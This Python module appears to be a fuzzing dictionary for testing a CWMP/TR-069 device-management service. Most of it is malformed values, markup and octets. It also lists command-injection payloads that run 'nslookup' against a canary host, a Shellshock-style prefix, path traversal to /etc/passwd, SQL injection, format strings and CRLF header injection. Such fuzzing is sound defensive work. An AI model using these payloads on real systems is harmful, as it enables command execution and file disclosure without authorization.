"""Words that break things: values, paths, numbers, times, markup and octets, as data."""

from __future__ import annotations

from typing import Final

LENGTHS: Final = (
    0, 1, 15, 16, 17, 31, 32, 33, 63, 64, 65, 127, 128, 129, 255, 256, 257, 511, 512, 1023, 1024, 1025, 2047, 2048, 2049,
    3071, 3072, 3073, 4095, 4096, 4097, 8192, 16384, 20000, 32767, 32768, 65535, 65536,
)  # fmt: skip
"""Around the limits of the schema, of buffers, and of what has been reported (3,072)."""

INTEGERS: Final = (
    "0", "-0", "+0", "00", "1", "-1", "+1", "01", "127", "128", "255", "256", "32767", "32768", "65535", "65536", "2147483647",
    "2147483648", "-2147483648", "-2147483649", "4294967295", "4294967296", "9223372036854775807", "9223372036854775808",
    "18446744073709551615", "18446744073709551616", "99999999999999999999999999", "0x10", "1e3", "1.0", "1,000", "1_000", " 1", "1 ",
    "NaN", "INF", "-INF", "one", "１", "",
)  # fmt: skip
BOOLEANS: Final = (
    "0", "1", "true", "false", "True", "TRUE", "2", "-1", "yes", "no", "on", "off", "t", "", " ", " 1 ", "01", "0.0", "null",
)  # fmt: skip
TIMES: Final = (
    "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-01-01T00:00:00", "2026-01-01T00:00:00+00:00",
    "2026-01-01T00:00:00+14:00", "2026-01-01T00:00:00-14:01", "2026-02-29T00:00:00Z", "2024-02-29T00:00:00Z",
    "2026-02-30T00:00:00Z", "2026-13-01T00:00:00Z", "2026-00-00T00:00:00Z", "2026-01-01T24:00:00Z",
    "2026-01-01T24:00:01Z", "2026-01-01T23:59:60Z", "2026-01-01T25:61:61Z", "0000-01-01T00:00:00Z",
    "-0001-01-01T00:00:00Z", "99999-01-01T00:00:00Z", "999999999999-01-01T00:00:00Z", "2026-1-1T0:0:0Z",
    "2026-01-01 00:00:00Z", "2026-01-01", "T00:00:00Z", "1767225600", "now", "2026-01-01T00:00:00.999999999999999999Z",
    "2038-01-19T03:14:08Z", "1969-12-31T23:59:59Z", "2106-02-07T06:28:16Z", "",
)  # fmt: skip
BINARY: Final = (
    "", "A", "AA", "AAA", "AAAA", "AA==", "AAA=", "A===", "====", "AA=A", "A A A A", "AA\nAA", "////", "----", "____",
    "*", "AAAAA", "0", "0g", "00", "000", "DEADBEEF", "deadbeef", "0x00",
)  # fmt: skip

TEXTS: Final = (
    "", " ", "  ", "\t", "\n", "a\nb", "a\r\nb", " lead", "trail ", "%n%n%n%n", "%s%s%s%s%s%s", "%x%08x", "%99999d", "{}", "{0}", "${x}",
    "'", '"', "''", "';--", "' OR '1'='1", "\\", "\\0", "\\x00", "\\n", "a\\", "`", "<", ">", "&", "<>&\"'", "]]>", "<!--", "-->", "<![CDATA[",
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/dev/zero", "file:///etc/passwd", "C:\\con\\con", "%00", "%0d%0aX-Injected: 1",
    "a\r\nX-Injected: 1", "\u00e9", "e\u0301", "\u20ac", "\U0001f600", "\u202eabc", "\u200b", "\ufeff", "\ufffd", "\u0085", "\u2028", "\u0130\u0131",
    "\u00df", "A\u0300" * 20, "null", "NULL", "None", "undefined", "true", "0", "-1", "1e309", "X" * 64, "X" * 65, "-h", "--help", "*", "?",
    "~", "a;b", "a|b", "a&b", "a,b", ",", ",,", "a=b", "#", "//", "http://", "http://[::1", "http://[", "@",
)  # fmt: skip

INJECTIONS: Final = {
    "semicolon": "; nslookup @{canary}",
    "backquotes": "`nslookup @{canary}`",
    "dollar": "$(nslookup @{canary})",
    "pipe": "| nslookup @{canary}",
    "ampersands": "& nslookup @{canary} &",
    "line-feeds": "\nnslookup @{canary}\n",
    "single-quotes": "';nslookup @{canary};'",
    "double-quotes": '";nslookup @{canary};"',
    "percent": "%0anslookup%20@{canary}",
    "url": "http://@{canary}/x",
    "file-share": "\\\\@{canary}\\x",
    "function": "() { :;}; nslookup @{canary}",
    "host": "@{canary}",
}
"""Whoever carries one of these out looks a name up that nobody else asks for."""

PATHS: Final = (
    "", ".", "..", "...", "{root}", "{root}.", ".{root}", "{bare}", "{bare}..", "{root}DeviceInfo", "{root}deviceinfo.", "{lower}",
    "{known}.", "{known}..", ".{known}", " {known}", "{known} ", "{known_lower}", "{known_upper}", "{root}DeviceInfo..SoftwareVersion",
    "{root}DeviceInfo.0.SoftwareVersion", "{root}*", "{root}*.", "{root}DeviceInfo.*", "{root}*.SoftwareVersion", "{root}{{i}}.",
    "{table}0.", "{table}-1.", "{table}1", "{table}4294967296.", "{table}00001.", "{table}+1.", "{table} 1.", "{table}[a].", "{table}[].",
    "{table}{{i}}.", "{table}*.", "{table}1.1.", "{table}999999.", "{table}0x1.", "{table}1e0.", "InternetGatewayDevice.", "Device.",
    "Nothing.At.All", "{root}X_000000_Nothing", "{root}X_000000_.", "{root}DeviceInfo.SoftwareVersion%00", "{root}DeviceInfo/SoftwareVersion",
    "{root}DeviceInfo.Software Version", "{root}DeviceInfo.SoftwareVersion\n", "../{known}", "{root}%s%n", "{root}$(id)", "@", "*", "{root}\u00e4.",
)  # fmt: skip
"""With ``{root}``, ``{bare}`` (its name without the dot), ``{lower}``, ``{known}``, ``{table}`` filled in."""

XSI_TYPES: Final = (
    "xsd:string", "xsd:int", "xsd:unsignedInt", "xsd:boolean", "xsd:dateTime", "xsd:long", "xsd:unsignedLong", "xsd:base64Binary",
    "xsd:hexBinary", "soap-enc:base64", "xsd:anyType", "xsd:anyURI", "xsd:decimal", "xsd:nonsense", "cwmp:ParameterValueStruct",
    "soap-enc:Array", "string", ":string", "xsd:", "", "nothing:string", "xsd:string xsd:int", "XSD:string", "xsd:String",
)  # fmt: skip
ARRAY_LENGTHS: Final = (
    "0", "2", "-1", "", "x", "1,1", "1][1", "01", "+1", " 1 ", "65535", "2147483647", "2147483648", "4294967295", "4294967296",
    "18446744073709551616", "1.0", "0x1",
)  # fmt: skip
MUST_UNDERSTAND: Final = ("0", "1", "true", "false", "2", "-1", "", " 1 ", "yes")

MARKUP: Final = (
    "<x/>", "<x>", "</x>", "<x></y>", "<>", "</>", "< x/>", "<x a=1/>", '<x a="1" a="2"/>', "<x a='1\"/>", "<!-- c -->", "<!-- -- -->", "<!---->",
    "<!-- ", "<?pi x?>", "<?xml version=\"1.0\"?>", "<?xml?>", "<??>", "<![CDATA[x]]>", "<![CDATA[]]>", "<![CDATA[a]]b]]>", "<![CDATA[",
    "]]>", "&amp;",
    "&lt;", "&#65;", "&#x41;", "&#0;", "&#1;", "&#xFFFE;", "&#xD800;", "&#x110000;", "&#99999999999;", "&#;", "&;", "&", "&nothing;", "<x:y/>",
    '<x xmlns=""/>', '<xmlns:x/>', '<x xmlns:xml="urn:x"/>', '<x xmlns:a=""/>', "<!DOCTYPE x>", "<!ENTITY x 'y'>", "\u0000", "\u0001",
    "\ufffe", "<x\n/>",
    '<cwmp:GetRPCMethods/>', '<string xsi:nil="1"/>', "<string/>", "<Name/>", "<Value/>", "<ParameterValueStruct/>", "<soap-env:Body/>",
    "<soap-env:Header/>", "<soap-env:Fault><faultcode>Server</faultcode><faultstring>CWMP fault</faultstring></soap-env:Fault>",
)  # fmt: skip

ELEMENTS: Final = (
    "Envelope", "Header", "Body", "Fault", "ID", "HoldRequests", "NoMoreRequests", "SessionTimeout", "UseCWMPVersion",
    "SupportedCWMPVersions", "Inform", "InformResponse", "GetRPCMethods", "GetParameterValues", "GetParameterNames",
    "GetParameterAttributes", "SetParameterAttributes", "SetParameterValues", "AddObject", "DeleteObject",
    "GetParameterValuesResponse", "TransferCompleteResponse", "GetOptions", "Kicked", "ParameterNames", "ParameterList", "ParameterValueStruct",
    "ParameterPath", "NextLevel", "ParameterKey", "CommandKey", "ObjectName", "Name", "Value", "string", "Notification", "AccessList",
    "NotificationChange", "AccessListChange", "x", "X_000000_x", "xml", "xmlns", "_", "-", "1", "a.b", "\u00e4",
)  # fmt: skip
ATTRIBUTES: Final = (
    "xmlns", "xmlns:cwmp", "xmlns:soap-env", "xmlns:x", "xsi:type", "xsi:nil", "soap-enc:arrayType", "soap-env:mustUnderstand",
    "soap-env:actor", "soap-env:encodingStyle", "id", "href", "xml:lang", "xml:space", "xml:base", "a", "soap-enc:offset", "soap-enc:position",
)  # fmt: skip

OCTETS: Final = (
    "\x00", "\x00\x00\x00\x00", "\x01", "\x08", "\x0b", "\x1f", "\x7f", "\x80", "\xff", "\xff\xff\xff\xff", "\xfe\xff", "\xff\xfe",
    "\xef\xbb\xbf", "\xc0\x80", "\xc0\xaf", "\xe0\x80\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\xc3", "\xe2\x82", "<", ">",
    "&", "\"", "'", "=", "/", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "<!DOCTYPE", "&#", ";", "\r\n", "\r", "\n", "\t", " ",
    "xmlns=", "xsi:nil=\"1\"", "%n", "A" * 100,
)  # fmt: skip
"""Pieces that havoc inserts and writes over; Latin-1 stands for octets."""


def filled_paths(root: str, known: str, table: str) -> tuple[str, ...]:
    """`PATHS` for one device."""
    names = {
        "root": root,
        "bare": root.rstrip("."),
        "lower": root.lower(),
        "known": known,
        "known_lower": known.lower(),
        "known_upper": known.upper(),
        "table": table,
    }
    return tuple(path.format(**names) for path in PATHS)
